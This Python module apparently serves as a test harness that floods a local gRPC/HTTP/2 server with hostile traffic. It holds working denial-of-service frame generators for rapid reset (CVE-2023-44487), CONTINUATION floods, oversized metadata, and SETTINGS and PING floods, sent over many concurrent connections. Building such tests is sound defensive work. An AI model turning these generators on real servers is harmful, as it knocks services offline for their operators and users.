"""What a hostile network sends to a port, over plain sockets."""

from __future__ import annotations

import asyncio
import itertools
import struct
from contextlib import asynccontextmanager, suppress
from typing import TYPE_CHECKING, TypeAlias

if TYPE_CHECKING:
    import ssl
    from collections.abc import AsyncGenerator, Iterable, Iterator

CONNECT_S = 60.0
STALL_S = 20.0  # in which a server that is flooded has to take something
AT_ONCE = 200  # connections that are being made
AT_A_TIME = 50  # frames
LINGER_S = 5.0  # after the last frame
SOURCES = 16  # addresses of the attacker: 127.0.1.1 and those after it

Connection: TypeAlias = tuple[asyncio.StreamReader, asyncio.StreamWriter]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
ACK = END_STREAM = 1
END_HEADERS = 4


async def connect(port: int, *, source: int = 0, tls: ssl.SSLContext | None = None) -> Connection:
    """Open a connection from one of the attacker's addresses."""
    address = f"127.0.1.{1 + source % SOURCES}"
    name = None if tls is None else "localhost"
    opening = asyncio.open_connection(
        "127.0.0.1", port, local_addr=(address, 0), ssl=tls, server_hostname=name
    )
    return await asyncio.wait_for(opening, CONNECT_S)


@asynccontextmanager
async def connections(
    port: int, count: int, *, first: bytes = b""
) -> AsyncGenerator[list[Connection]]:
    """Hold connections open that have sent some bytes, and close them at the end.

    Args:
        port: Of this machine.
        count: How many; those that are refused are not among what it yields.
        first: Sent on each.
    """
    gate = asyncio.Semaphore(AT_ONCE)
    made: list[Connection] = []

    async def one(number: int) -> None:
        async with gate:
            with suppress(OSError, TimeoutError):
                connection = await connect(port, source=number)
                connection[1].write(first)
                made.append(connection)

    await asyncio.gather(*map(one, range(count)))
    try:
        yield made
    finally:
        for _, writer in made:
            writer.transport.abort()


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _length(size: int, prefix: int) -> bytes:
    """Return an integer as HPACK has it, with a prefix of so many bits."""
    most = (1 << prefix) - 1
    if size < most:
        return bytes([size])
    size -= most
    found = [most]
    while size >= 128:
        found.append(size % 128 + 128)
        size //= 128
    return bytes([*found, size])


def header(name: str, value: str) -> bytes:
    """Return a header as HPACK has it: a literal that is not indexed."""
    texts = (name.encode(), value.encode())
    return b"\0" + b"".join(_length(len(one), 7) + one for one in texts)


def grpc_headers(path: str, more: Iterable[tuple[str, str]] = ()) -> bytes:
    """Return the headers of a gRPC call."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *more,
    ]
    return b"".join(header(*one) for one in fields)


def opening() -> bytes:
    """Return what a client of HTTP/2 sends first."""
    return PREFACE + frame(SETTINGS, 0, 0)


def rapid_resets(path: str, count: int) -> Iterator[bytes]:
    """Yield calls that are cancelled at once (CVE-2023-44487)."""
    headers = grpc_headers(path)
    for stream in range(1, 2 * count, 2):
        cancelled = frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        yield frame(HEADERS, END_HEADERS, stream, headers) + cancelled


def open_calls(path: str, count: int) -> Iterator[bytes]:
    """Yield calls whose message never comes."""
    headers = grpc_headers(path)
    for stream in range(1, 2 * count, 2):
        yield frame(HEADERS, END_HEADERS, stream, headers)


def large_metadata(path: str, count: int) -> Iterator[bytes]:
    """Yield calls with 60 kB of metadata each."""
    headers = grpc_headers(path, ((f"x-{number}", "a" * 1000) for number in range(60)))
    cuts = [headers[at : at + 16_000] for at in range(0, len(headers), 16_000)]
    for stream in range(1, 2 * count, 2):
        yield frame(HEADERS, 0, stream, cuts[0])
        for number, cut in enumerate(cuts[1:], start=2):
            yield frame(CONTINUATION, END_HEADERS if number == len(cuts) else 0, stream, cut)


def endless_metadata(path: str, count: int) -> Iterator[bytes]:
    """Yield metadata of one call that does not end (CONTINUATION flood)."""
    yield frame(HEADERS, 0, 1, grpc_headers(path))
    for number in range(count):
        yield frame(CONTINUATION, 0, 1, header(f"x-{number}", "a" * 8000))


def settings(path: str, count: int) -> Iterator[bytes]:
    """Yield settings, each of which wants an answer."""
    del path
    yield from (frame(SETTINGS, 0, 0) for _ in range(count))


def pings(path: str, count: int) -> Iterator[bytes]:
    """Yield pings, each of which wants an answer."""
    del path
    yield from (frame(PING, 0, 0, b"12345678") for _ in range(count))


async def send_all(
    port: int, parts: Iterable[bytes], *, source: int, tls: ssl.SSLContext | None = None
) -> None:
    """Send frames on one connection as fast as they are taken, until the other side closes it.

    At the end the connection stays open for a while, so that all of them are looked at.
    """
    reader, writer = await connect(port, source=source, tls=tls)

    async def read() -> None:
        with suppress(OSError):
            while await reader.read(65536):
                pass

    reading = asyncio.create_task(read())
    try:
        with suppress(OSError, TimeoutError):
            writer.write(opening())
            left = iter(parts)
            while not reading.done() and (data := b"".join(itertools.islice(left, AT_A_TIME))):
                writer.write(data)
                await asyncio.wait_for(writer.drain(), STALL_S)
            await asyncio.wait_for(reading, LINGER_S)
    finally:
        writer.transport.abort()
        reading.cancel()
